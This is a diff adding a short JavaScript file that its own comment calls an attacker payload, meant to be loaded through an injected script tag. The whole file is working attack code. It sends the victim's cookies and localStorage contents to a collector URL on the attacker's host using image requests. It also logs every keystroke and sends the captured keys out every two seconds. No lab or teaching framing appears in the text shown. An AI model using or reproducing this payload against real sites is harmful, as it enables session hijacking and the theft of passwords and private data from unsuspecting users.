@@ -0,0 +1,26 @@
+// Attacker payload: loaded by an injected <script src>, it sends the
+// victim's cookies, localStorage and keystrokes back to the collector
+(function () {
+	var collector = new URL('c', document.currentScript.src).href;
+
+	function send(kind, data) {
+		new Image().src = collector +
+			'?kind=' + encodeURIComponent(kind) +
+			'&data=' + encodeURIComponent(data) +
+			'&page=' + encodeURIComponent(location.href);
+	}
+
+	send('cookie', document.cookie);
+	send('localStorage', JSON.stringify(localStorage));
+
+	var keys = '';
+	document.addEventListener('keydown', function (e) {
+		keys += e.key.length === 1 ? e.key : '[' + e.key + ']';
+	});
+	setInterval(function () {
+		if (keys) {
+			send('keys', keys);
+			keys = '';
+		}
+	}, 2000);
+})();